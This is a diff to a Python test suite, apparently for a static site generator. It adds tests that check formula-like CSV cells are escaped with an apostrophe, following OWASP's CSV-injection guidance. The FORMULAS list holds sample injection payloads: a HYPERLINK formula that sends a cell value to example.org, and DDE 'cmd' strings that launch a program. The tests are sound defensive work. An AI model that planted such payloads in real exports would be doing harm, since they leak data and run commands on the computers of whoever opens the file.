@@ -197,6 +197,9 @@ def test_csv_files_hold_every_record_unchanged(real: tuple[Site, Path]) -> None:
             for name, cell in cells.items():
                 value = expected[name]
                 # The documented encoding: lists and objects are JSON, an empty cell is an absent field.
+                # A value that would begin as a formula is written after an apostrophe.
+                if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t", "\r"):
+                    cell = cell[1:]
                 decoded[name] = json.loads(cell) if isinstance(value, (list, dict)) else (cell or None)
             assert decoded == expected, record.id
             assert cls.model_validate(decoded, context={"languages": languages}) == record
@@ -458,3 +461,31 @@ def test_sitemap_lists_every_page(real: tuple[Site, Path]) -> None:
     redirects = {site_dir / TYPE_BY_NAME[type_].plural / alias for type_, alias in graph.redirects}
     pages = {p.parent for p in site_dir.rglob("index.html")} - redirects
     assert {local_file(site_dir, url).parent for url in urls} == pages
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+"""Hostile first characters; a carriage return cannot reach a cell: validation refuses it in text."""
+
+
+@pytest.mark.build
+@pytest.mark.parametrize("payload", FORMULAS, ids=["equals", "plus", "minus", "at", "tab"])
+def test_a_csv_cell_that_would_run_as_a_formula_is_text(payload: str, tmp_path: Path) -> None:
+    """OWASP's CSV-injection guidance: a cell that begins as a formula begins with an apostrophe."""
+    project = make_project(MINIMAL, tmp_path)
+    person = project / "data" / "people" / "ana-marin.yml"
+    data = yaml.safe_load(person.read_text(encoding="utf-8"))
+    data["description"] = payload
+    person.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    site = build_project(project)
+    rows = list(csv.DictReader(io.StringIO((site / "data" / "people.csv").read_bytes().decode("utf-8"), newline="")))
+    (cell,) = [row["description"] for row in rows if row["id"] == "ana-marin"]
+    assert cell == "'" + payload
+    # Only the cells that need it: the other person's description is as written.
+    (other,) = [row["description"] for row in rows if row["id"] != "ana-marin"]
+    assert not other.startswith("'")
